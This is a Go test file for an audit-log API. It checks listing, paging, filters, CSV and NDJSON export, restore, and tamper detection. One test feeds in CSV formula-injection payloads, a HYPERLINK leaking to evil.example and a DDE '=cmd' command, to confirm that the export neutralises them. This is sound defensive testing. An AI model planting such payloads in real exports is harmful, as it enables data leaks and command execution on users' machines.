package web_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/lapsehq/lapse/app"
	"github.com/lapsehq/lapse/app/audit"
	"github.com/lapsehq/lapse/app/store"
)

type auditPage struct {
	Events []app.AuditEvent `json:"events"`
	Next   *int64           `json:"next"`
}

func (e *apiEnv) auditPage(auth string, q url.Values) auditPage {
	e.t.Helper()
	r := e.call("GET", "/api/v1/audit?"+q.Encode(), auth, nil)
	e.ok(r, 200)
	var p auditPage
	if err := json.Unmarshal(r.body, &p); err != nil {
		e.t.Fatal(err)
	}
	return p
}

func actionsOf(evs []app.AuditEvent) []string {
	var out []string
	for _, ev := range evs {
		out = append(out, ev.Action)
	}
	return out
}

// removal records an access removal through the store, as a scan does,
// and returns its audit event id.
func (e *apiEnv) removal(tenantID, accountID string) int64 {
	e.t.Helper()
	ctx := context.Background()
	run := e.finishedScan(tenantID, app.ScanCompleted, nil)
	a := app.ScanAction{ScanID: run.ID, AccountID: accountID, GroupID: "g-jsw", Product: "jira-software", State: app.ActionDone, Outcome: "removed"}
	if err := e.store.RecordIntent(ctx, tenantID, a); err != nil {
		e.t.Fatal(err)
	}
	if err := e.store.CompleteAction(ctx, tenantID, a, &app.RemovalEvidence{ScanID: run.ID, AccountID: accountID, GroupID: "g-jsw"}); err != nil {
		e.t.Fatal(err)
	}
	evs, err := e.store.ListAuditEvents(ctx, tenantID, 1000)
	if err != nil {
		e.t.Fatal(err)
	}
	last := evs[len(evs)-1]
	if last.Action != app.AuditAccessRemove {
		e.t.Fatalf("last event is %s", last.Action)
	}
	return last.ID
}

func TestAPI_Audit(t *testing.T) {
	t.Parallel()
	eachDialect(t, func(t *testing.T, d store.Dialect) {
		e := newAPIEnv(t, d)
		jira := e.installConnect(e.site1, "jira")
		auth := e.as(jira, e.admin)
		ctx := context.Background()
		e.ok(e.call("PUT", "/api/v1/org-connection", auth, map[string]any{"orgId": "org-1", "apiKey": testOrgKey}), 200)
		p, _ := policyOf(t, e.call("GET", "/api/v1/policy", auth, nil))
		p.GraceDays = 10
		e.ok(e.call("PUT", "/api/v1/policy", auth, map[string]any{"policy": p, "baseVersion": 0}), 200)
		removalID := e.removal(jira.ID, "557058:removed-user")
		all, _ := e.store.ListAuditEvents(ctx, jira.ID, 1000)

		t.Run("list", func(t *testing.T) {
			got := e.auditPage(auth, nil)
			if len(got.Events) != len(all) || got.Next != nil {
				t.Fatalf("events = %d (next %v), want %d", len(got.Events), got.Next, len(all))
			}
			for i, ev := range got.Events {
				if ev.Seq != all[i].Seq || ev.Hash != all[i].Hash || ev.TenantID != jira.ID {
					t.Fatalf("event %d = %+v, want %+v", i, ev, all[i])
				}
			}
		})
		t.Run("paging", func(t *testing.T) {
			var seqs []int64
			q := url.Values{"limit": {"2"}}
			for range 20 {
				p := e.auditPage(auth, q)
				for _, ev := range p.Events {
					seqs = append(seqs, ev.Seq)
				}
				if p.Next == nil {
					break
				}
				q.Set("after", strconv.FormatInt(*p.Next, 10))
			}
			if len(seqs) != len(all) || !slices.IsSorted(seqs) || seqs[0] != 1 {
				t.Fatalf("paged seqs %v", seqs)
			}
		})
		t.Run("filters", func(t *testing.T) {
			got := e.auditPage(auth, url.Values{"action": {"policy.changed,org.connected"}})
			if strings.Join(actionsOf(got.Events), ",") != "org.connected,policy.changed" {
				t.Fatalf("action filter: %v", actionsOf(got.Events))
			}
			got = e.auditPage(auth, url.Values{"action": {"policy.changed", "tenant.installed"}})
			if len(got.Events) != 2 {
				t.Fatalf("repeated action: %v", actionsOf(got.Events))
			}
			got = e.auditPage(auth, url.Values{"account": {"557058:removed-user"}})
			if len(got.Events) != 1 || got.Events[0].ID != removalID {
				t.Fatalf("account filter: %+v", got.Events)
			}
			if got := e.auditPage(auth, url.Values{"from": {"2999-01-01"}}); len(got.Events) != 0 {
				t.Fatalf("from the future: %d events", len(got.Events))
			}
			if got := e.auditPage(auth, url.Values{"to": {"2000-01-01T00:00:00Z"}}); len(got.Events) != 0 {
				t.Fatalf("to the past: %d events", len(got.Events))
			}
			if got := e.auditPage(auth, url.Values{"from": {"2000-01-01"}, "to": {"2999-01-01T00:00:00+02:00"}}); len(got.Events) != len(all) {
				t.Fatalf("whole range: %d events", len(got.Events))
			}
		})
		t.Run("export_csv", func(t *testing.T) {
			r := e.call("GET", "/api/v1/audit/export?format=csv", auth, nil)
			e.ok2(r)
			if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
				t.Fatalf("Content-Type %q", ct)
			}
			if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="lapse-audit-`) || !strings.HasSuffix(cd, `.csv"`) {
				t.Fatalf("Content-Disposition %q", cd)
			}
			recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(recs[0], audit.CSVHeader) || len(recs) != len(all)+1 || recs[len(recs)-1][8] != all[len(all)-1].Hash {
				t.Fatalf("csv: %d records, header %v", len(recs), recs[0])
			}
			filtered := e.call("GET", "/api/v1/audit/export?action=policy.changed", auth, nil)
			e.ok2(filtered)
			if recs, _ := csv.NewReader(bytes.NewReader(filtered.body)).ReadAll(); len(recs) != 2 || recs[1][4] != "policy.changed" {
				t.Fatalf("filtered csv: %v", recs)
			}
			empty := e.call("GET", "/api/v1/audit/export?from=2999-01-01", auth, nil)
			e.ok2(empty)
			if strings.TrimSpace(string(empty.body)) != strings.Join(audit.CSVHeader, ",") {
				t.Fatalf("empty export: %q", empty.body)
			}
		})
		t.Run("export_ndjson", func(t *testing.T) {
			r := e.call("GET", "/api/v1/audit/export?format=ndjson&after=1", auth, nil)
			e.ok2(r)
			if ct := r.header.Get("Content-Type"); ct != "application/x-ndjson" || !strings.HasSuffix(r.header.Get("Content-Disposition"), `.ndjson"`) {
				t.Fatalf("headers %v", r.header)
			}
			sc := bufio.NewScanner(bytes.NewReader(r.body))
			n := 0
			for sc.Scan() {
				var ev app.AuditEvent
				if err := json.Unmarshal(sc.Bytes(), &ev); err != nil || ev.Seq != all[n+1].Seq || ev.Hash != all[n+1].Hash {
					t.Fatalf("line %d: %s (%v)", n, sc.Bytes(), err)
				}
				n++
			}
			if n != len(all)-1 {
				t.Fatalf("ndjson lines after seq 1 = %d, want %d", n, len(all)-1)
			}
			empty := e.call("GET", "/api/v1/audit/export?format=ndjson&from=2999-01-01", auth, nil)
			e.ok2(empty)
			if len(empty.body) != 0 || empty.header.Get("Content-Disposition") == "" {
				t.Fatalf("empty ndjson export: %q %v", empty.body, empty.header)
			}
		})
		t.Run("restore", func(t *testing.T) {
			m := e.ok(e.call("POST", "/api/v1/audit/"+strconv.FormatInt(removalID, 10)+"/restore", auth, nil), 200)
			ev := m["event"].(map[string]any)
			if ev["action"] != app.AuditRestore || ev["actor"].(map[string]any)["id"] != e.admin {
				t.Fatalf("restore event: %v", ev)
			}
			wantError(t, e.call("POST", "/api/v1/audit/"+strconv.FormatInt(removalID, 10)+"/restore", auth, nil), 409, "conflict", "already restored")
			wantError(t, e.call("POST", "/api/v1/audit/"+strconv.FormatInt(all[0].ID, 10)+"/restore", auth, nil), 400, "invalid", "only removals can be restored")
		})
		t.Run("verify", func(t *testing.T) {
			m := e.ok(e.call("GET", "/api/v1/audit/verify", auth, nil), 200)
			n, _ := e.store.ListAuditEvents(ctx, jira.ID, 1000)
			if m["ok"] != true || m["events"] != float64(len(n)) || m["checkedAt"] == nil || m["problem"] != nil {
				t.Fatalf("verify: %v", m)
			}
			db, err := e.store.SQLDB()
			if err != nil {
				t.Fatal(err)
			}
			if _, err := db.Exec("UPDATE audit_events SET actor_id = 'someone-else' WHERE tenant_id = '" + jira.ID + "' AND seq = 2"); err != nil {
				t.Fatal(err)
			}
			m = e.ok(e.call("GET", "/api/v1/audit/verify", auth, nil), 200)
			if m["ok"] != false || m["brokenAtSeq"] != float64(2) || !strings.Contains(m["problem"].(string), "edited") {
				t.Fatalf("verify after tampering: %v", m)
			}
		})
	})
}

// ok2 asserts a 200 without decoding (downloads are not JSON).
func (e *apiEnv) ok2(r response) {
	e.t.Helper()
	if r.status != 200 {
		e.t.Fatalf("status %d: %s", r.status, r.body)
	}
}

func TestAPI_RestoreNotConfigured(t *testing.T) {
	t.Parallel()
	e := newAPIEnv(t, store.SQLite, apiOptions{noRestorer: true})
	jira := e.installConnect(e.site1, "jira")
	wantError(t, e.call("POST", "/api/v1/audit/1/restore", e.as(jira, e.admin), nil), 501, "not_implemented", "not available")
}

// TestAPI_ExportNeutralisesFormulas: values that come from outside Lapse
// and look like spreadsheet formulas (an account id, an org id) reach the
// CSV as text, never as a formula cell.
func TestAPI_ExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	eachDialect(t, func(t *testing.T, d store.Dialect) {
		e := newAPIEnv(t, d, apiOptions{siteAdmins: yesAdmins{}})
		jira := e.installConnect(e.site1, "jira")
		evil := `=HYPERLINK("http://evil.example/?leak","click me")`
		e.ok(e.call("PUT", "/api/v1/org-connection", e.as(jira, evil), map[string]any{"orgId": "org-1", "apiKey": testOrgKey}), 200)
		if _, err := e.store.SetOrgConnection(context.Background(), jira.ID, "=cmd|' /C calc'!A0", "k", app.Actor{Type: app.ActorAdmin, ID: "+SUM(1+1)"}); err != nil {
			t.Fatal(err)
		}
		e.removal(jira.ID, "-2+3")

		r := e.call("GET", "/api/v1/audit/export?format=csv", e.as(jira, e.admin), nil)
		e.ok2(r)
		recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var cells []string
		for _, rec := range recs {
			cells = append(cells, rec...)
		}
		for _, c := range cells {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q starts with a formula character", c)
			}
		}
		for _, want := range []string{"'" + evil, "'+SUM(1+1)", "'-2+3"} {
			if !slices.Contains(cells, want) {
				t.Errorf("no neutralised cell %q in the export", want)
			}
		}
		// The org id is inside the JSON data cell, which starts with "{":
		// its text is kept byte for byte, as the hash covers it.
		found := false
		for _, rec := range recs[1:] {
			if rec[4] == app.AuditOrgConnected && strings.Contains(rec[6], `"orgId":"=cmd|' /C calc'!A0"`) {
				found = strings.HasPrefix(rec[6], "{")
			}
		}
		if !found {
			t.Fatalf("org.connected data cell with the org id not found as JSON:\n%s", r.body)
		}
	})
}

// TestAPI_ExportLarge crosses the export's flush interval and the store's
// page size: every event arrives once, in order.
func TestAPI_ExportLarge(t *testing.T) {
	t.Parallel()
	e := newAPIEnv(t, store.SQLite)
	jira := e.installConnect(e.site1, "jira")
	ctx := context.Background()
	for i := range 620 {
		if _, err := e.store.SetOrgConnection(ctx, jira.ID, "org-"+strconv.Itoa(i), "k", app.Actor{Type: app.ActorAdmin, ID: e.admin}); err != nil {
			t.Fatal(err)
		}
	}
	r := e.call("GET", "/api/v1/audit/export?format=ndjson", e.as(jira, e.admin), nil)
	e.ok2(r)
	sc := bufio.NewScanner(bytes.NewReader(r.body))
	var want int64 = 1
	for sc.Scan() {
		var ev app.AuditEvent
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil || ev.Seq != want {
			t.Fatalf("line %d: seq %d, %v", want, ev.Seq, err)
		}
		want++
	}
	if want-1 != 621 {
		t.Fatalf("exported %d events, want 621", want-1)
	}
}
